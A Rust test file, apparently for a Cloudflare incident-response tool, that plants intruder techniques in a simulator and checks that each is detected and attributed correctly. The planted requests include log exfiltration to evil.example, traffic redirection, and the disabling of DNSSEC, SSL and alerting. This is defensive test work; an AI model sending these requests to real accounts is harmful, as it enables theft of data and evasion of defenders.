//! The hunt through the real client: every technique that can be planted is found, by its right name, with whoever did
//! it and what was there before; colleagues are never blamed; and what could not be seen is never ruled out.

use jiff::SignedDuration;
use quell::model::{Attribution, Finding};
use quell::simulator::{Fault, FaultKind};
use reqwest::Method;
use serde_json::{Value, json};

use crate::stage::{Seen, Stage};

/// The address from which everything over the wire arrives in the scenario.
const HOSTILE: &str = "203.0.113.50";

/// What an intruder does: the technique, the families that show it, and the requests.
struct Plant {
    technique: &'static str,
    families: &'static [&'static str],
    requests: Vec<(Method, &'static str, Value)>,
}

fn plant(technique: &'static str, families: &'static [&'static str], request: (Method, &'static str, Value)) -> Plant {
    Plant { technique, families, requests: vec![request] }
}

/// Braces: `{a}` the account, `{z}` a zone, `{PATH}` the id of the first item of that list.
fn plants() -> Vec<Plant> {
    let (post, put, patch, delete) = (Method::POST, Method::PUT, Method::PATCH, Method::DELETE);
    vec![
        plant("CF-I05", &[], (put.clone(), "/accounts/{a}/tokens/{/accounts/{a}/tokens}/value", json!({}))),
        plant(
            "CF-I10",
            &["sso_connectors"],
            (patch.clone(), "/accounts/{a}/sso_connectors/{/accounts/{a}/sso_connectors}", json!({ "enabled": false })),
        ),
        plant(
            "CF-T01",
            &["workers_scripts"],
            (put.clone(), "/accounts/{a}/workers/scripts/beacon", json!({ "handlers": ["fetch"] })),
        ),
        plant(
            "CF-T02",
            &["workers_routes"],
            (
                post.clone(),
                "/zones/{z}/workers/routes",
                json!({ "pattern": "harborlane-shop.example/login*", "script": "checkout" }),
            ),
        ),
        plant(
            "CF-T05",
            &["page_rules"],
            (
                post.clone(),
                "/zones/{z}/pagerules",
                json!({ "targets": [{ "target": "url", "constraint": { "operator": "matches", "value": "*x*" } }], "actions": [{ "id": "forwarding_url", "value": { "url": "https://evil.example", "status_code": 302 } }], "status": "active" }),
            ),
        ),
        plant(
            "CF-T07",
            &["dns_records"],
            (
                post.clone(),
                "/zones/{z}/dns_records",
                json!({ "type": "A", "name": "vpn", "content": "203.0.113.66", "ttl": 60 }),
            ),
        ),
        plant(
            "CF-T08",
            &["dns_records"],
            (
                post.clone(),
                "/zones/{z}/dns_records",
                json!({ "type": "TXT", "name": "_acme-challenge.vpn", "content": "\"x\"", "ttl": 60 }),
            ),
        ),
        plant("CF-T10", &["dnssec"], (patch.clone(), "/zones/{z}/dnssec", json!({ "status": "disabled" }))),
        plant(
            "CF-T11",
            &["email_addresses"],
            (post.clone(), "/accounts/{a}/email/routing/addresses", json!({ "email": "eve@evil.example" })),
        ),
        plant(
            "CF-T12",
            &["zone_settings"],
            (patch.clone(), "/zones/{z}/settings/security_level", json!({ "value": "essentially_off" })),
        ),
        plant("CF-T14", &["zone_settings"], (patch.clone(), "/zones/{z}/settings/ssl", json!({ "value": "flexible" }))),
        plant(
            "CF-T16",
            &["load_balancer_pools"],
            (
                patch.clone(),
                "/accounts/{a}/load_balancers/pools/{/accounts/{a}/load_balancers/pools}",
                json!({ "origins": [{ "name": "one", "address": "203.0.113.66", "enabled": true, "weight": 1 }] }),
            ),
        ),
        plant(
            "CF-T17",
            &["origin_pulls_setting"],
            (put.clone(), "/zones/{z}/origin_tls_client_auth/settings", json!({ "enabled": false })),
        ),
        plant(
            "CF-Z02",
            &["service_tokens"],
            (post.clone(), "/accounts/{a}/access/service_tokens", json!({ "name": "deploy", "duration": "87600h" })),
        ),
        plant(
            "CF-Z03",
            &["identity_providers"],
            (
                post.clone(),
                "/accounts/{a}/access/identity_providers",
                json!({ "name": "login", "type": "onetimepin", "config": {} }),
            ),
        ),
        plant(
            "CF-Z04",
            &["tunnels"],
            (post.clone(), "/accounts/{a}/cfd_tunnel", json!({ "name": "backup-link", "config_src": "cloudflare" })),
        ),
        plant(
            "CF-E01",
            &["logpush_jobs"],
            (
                post.clone(),
                "/accounts/{a}/logpush/jobs",
                json!({ "name": "copy", "dataset": "audit_logs_v2", "destination_conf": "https://evil.example/in" }),
            ),
        ),
        plant(
            "CF-E02",
            &["logpush_jobs"],
            (delete.clone(), "/accounts/{a}/logpush/jobs/{/accounts/{a}/logpush/jobs}", Value::Null),
        ),
        plant(
            "CF-E05",
            &["secondary_dns_peers"],
            (post.clone(), "/accounts/{a}/secondary_dns/peers", json!({ "name": "mirror", "ip": "203.0.113.66" })),
        ),
        plant(
            "CF-D03",
            &["alert_policies"],
            (delete, "/accounts/{a}/alerting/v3/policies/{/accounts/{a}/alerting/v3/policies}", Value::Null),
        ),
    ]
}

struct Hunting {
    stage: Stage,
    zone: String,
}

impl Hunting {
    async fn new() -> Self {
        let stage = Stage::new().await;
        let zones = send(&stage, &Method::GET, "/zones?name=harborlane-shop.example", Value::Null).await;
        let zone = zones[0]["id"].as_str().unwrap().to_owned();
        Self { stage, zone }
    }

    /// Plants it by the global key of the scene, which may do everything, from the hostile address.
    async fn plant(&self, plant: &Plant) {
        for (method, path, body) in &plant.requests {
            let mut path = path.replace("{z}", &self.zone);
            if let Some(at) = path.find("{/") {
                let end = at + path[at..].rfind('}').unwrap();
                let list = path[at + 1..end].to_owned();
                let items = send(&self.stage, &Method::GET, &list, Value::Null).await;
                let id = &items[0]["id"];
                let id = id.as_str().map_or_else(|| id.to_string(), str::to_owned);
                path.replace_range(at..=end, &id);
            }
            send(&self.stage, method, &path, body.clone()).await;
        }
    }

    /// What the hunt sees since the account was started, given that the intruder acts from the hostile address.
    async fn hunt(&self, families: &[&str]) -> Seen {
        let now = self.stage.now;
        let since = now - SignedDuration::from_secs(1);
        let audit = self
            .stage
            .plan(
                "cloudflare.audit.collect",
                json!({ "since": since, "before": now + SignedDuration::from_hours(1), "lookback": "1m" }),
            )
            .await
            .unwrap();
        let output = &audit.plan.output;
        let principals =
            json!([{ "token_id": "stolen", "token_name": "stolen", "honest_ips": [], "hostile_ips": [HOSTILE] }]);
        let with = json!({
            "since": since, "events": output["events"], "log_complete": output["complete"], "principals": principals,
            "zones": ["harborlane-shop.example"], "families": families,
        });
        self.stage.plan("cloudflare.hunt", with).await.unwrap()
    }
}

async fn send(stage: &Stage, method: &Method, path: &str, body: Value) -> Value {
    let (account, email, key) =
        (&stage.scenario.cast.account_id, &stage.scenario.cast.email, &stage.scenario.cast.global_key);
    let url = format!("{}{}", stage.simulator().base_url(), path.replace("{a}", account));
    let client = reqwest::Client::builder().no_proxy().build().unwrap();
    let request = client.request(method.clone(), url).header("x-auth-email", email).header("x-auth-key", key);
    let request = if body.is_null() { request } else { request.json(&body) };
    let mut answer: Value = request.send().await.unwrap().json().await.unwrap();
    assert_eq!(answer["success"], true, "{method} {path}: {answer}");
    answer["result"].take()
}

fn verdict<'o>(seen: &'o Seen, technique: &str) -> &'o Value {
    let verdicts = seen.plan.output["verdicts"].as_array().unwrap();
    verdicts.iter().find(|judged| judged["technique"] == technique).unwrap()
}

fn of<'f>(seen: &'f Seen, technique: &str) -> Vec<&'f Finding> {
    seen.plan.findings.iter().filter(|finding| finding.technique == technique).collect()
}

#[tokio::test]
async fn each_technique_alone_is_found_and_named() {
    for plant in plants() {
        let hunting = Hunting::new().await;
        hunting.plant(&plant).await;
        let families = if plant.families.is_empty() { &["sso_connectors"][..] } else { plant.families };
        let seen = hunting.hunt(families).await;
        let found = of(&seen, plant.technique);
        assert_eq!(found.len(), 1, "{}: {:#?}", plant.technique, seen.plan.findings);
        assert_eq!(
            (found[0].attribution, found[0].actor.ip.as_deref()),
            (Attribution::Intruder, Some(HOSTILE)),
            "{}",
            plant.technique
        );
        assert_eq!(verdict(&seen, plant.technique)["verdict"], "confirmed", "{}", plant.technique);
        // The key that it was done with is a matter of its own; nothing else is.
        let others: Vec<&str> = seen
            .plan
            .findings
            .iter()
            .map(|it| it.technique.as_str())
            .filter(|it| *it != plant.technique && *it != "CF-I06")
            .collect();
        assert!(others.is_empty(), "{}: also {others:?}", plant.technique);
    }
}

#[tokio::test]
async fn all_together_with_honest_noise_each_has_its_own_and_colleagues_none() {
    let hunting = Hunting::new().await;
    let stage = &hunting.stage;
    let setting = format!("/zones/{}/settings/ssl", hunting.zone);
    let ssl = send(stage, &Method::GET, &setting, Value::Null).await["value"].clone();
    // A colleague at work in the same hour, with a token that nobody stole.
    let record = json!({ "type": "A", "name": "sale", "content": "192.0.2.77", "ttl": 300 });
    let path = format!("/zones/{}/dns_records", hunting.zone);
    let honest = stage.send_as(&stage.scenario.cast.responder_token, "POST", &path, record).await;
    for plant in plants() {
        hunting.plant(&plant).await;
    }
    let seen = hunting.hunt(&[]).await;
    for plant in plants() {
        let found = of(&seen, plant.technique);
        assert!(!found.is_empty(), "{}", plant.technique);
        assert!(found.iter().all(|it| it.attribution == Attribution::Intruder), "{}: {found:#?}", plant.technique);
        assert_eq!(verdict(&seen, plant.technique)["verdict"], "confirmed", "{}", plant.technique);
    }
    let mut planted: Vec<&str> = plants().iter().map(|plant| plant.technique).collect();
    planted.push("CF-I06");
    let others: Vec<_> = seen.plan.findings.iter().filter(|it| !planted.contains(&it.technique.as_str())).collect();
    assert!(others.is_empty(), "{others:#?}");
    let id = honest["id"].as_str().unwrap();
    assert!(seen.plan.findings.iter().all(|it| it.resource.id != id), "{:#?}", seen.plan.findings);
    assert_eq!(seen.plan.output["by_others"], 1);
    // What it was before is told from the log.
    let weakened = of(&seen, "CF-T14")[0];
    let value = |state: &Option<Value>| state.as_ref().map(|state| state["value"].clone());
    assert_eq!((value(&weakened.before), value(&weakened.after)), (Some(ssl), Some("flexible".into())));
    assert!(!weakened.evidence.is_empty());
}

#[tokio::test]
async fn what_could_not_be_seen_is_never_ruled_out() {
    let hunting = Hunting::new().await;
    let quiet = hunting.hunt(&["workers_routes", "workers_domains", "workers_subdomain"]).await;
    let judged = verdict(&quiet, "CF-T02");
    assert_eq!((&judged["verdict"], quiet.plan.findings.len()), (&"ruled_out".into(), 0), "{judged}");
    assert!(judged["because"][0].as_str().unwrap().contains("and all of workers_domains, workers_routes"), "{judged}");
    // What was not read is not ruled out by silence, and what is never logged never is.
    assert_eq!(verdict(&quiet, "CF-T16")["verdict"], "unknown");
    assert_eq!(
        (&verdict(&quiet, "CF-E06")["verdict"], &verdict(&quiet, "CF-E06")["permanent"]),
        (&"unknown".into(), &true.into())
    );

    let path = format!("/zones/{}/workers/routes", hunting.zone);
    let fault = Fault { method: Some("GET".into()), path, skip: 0, times: 10, kind: FaultKind::Forbidden };
    hunting.stage.simulator().script(fault);
    let blind = hunting.hunt(&["workers_routes", "workers_domains", "workers_subdomain"]).await;
    let judged = verdict(&blind, "CF-T02");
    assert_eq!((&judged["verdict"], &judged["permanent"]), (&"unknown".into(), &false.into()), "{judged}");
    assert!(judged["because"][0].as_str().unwrap().contains("(needs Workers Routes Read)"), "{judged}");
    assert_eq!(blind.gaps.len(), 1, "{:?}", blind.gaps);
}

#[tokio::test]
async fn a_family_that_is_not_there_is_an_error_with_a_guess() {
    let hunting = Hunting::new().await;
    let error = hunting
        .stage
        .plan("cloudflare.hunt", json!({ "since": "2026-01-01T00:00:00Z", "families": ["worker_routes"] }))
        .await;
    let error = error.map(|_| ()).unwrap_err();
    assert_eq!(error.hint.as_deref(), Some("did you mean `workers_routes`? docs/families.md lists all"));
}

#[tokio::test]
async fn what_the_intruder_did_stays_confirmed_after_others_wrote_to_it() {
    let hunting = Hunting::new().await;
    let stage = &hunting.stage;
    let body = json!({ "type": "A", "name": "vpn", "content": "203.0.113.66", "ttl": 60 });
    let path = format!("/zones/{}/dns_records", hunting.zone);
    let made = send(stage, &Method::POST, &path, body).await;
    let one = format!("{path}/{}", made["id"].as_str().unwrap());
    stage.send_as(&stage.scenario.cast.responder_token, "PATCH", &one, json!({ "content": "192.0.2.1" })).await;
    let seen = hunting.hunt(&["dns_records"]).await;
    let found = of(&seen, "CF-T07");
    assert_eq!((found.len(), found[0].attribution, found[0].actor.token_id.clone()), (1, Attribution::Intruder, None));
    assert_eq!(verdict(&seen, "CF-T07")["verdict"], "confirmed");
}
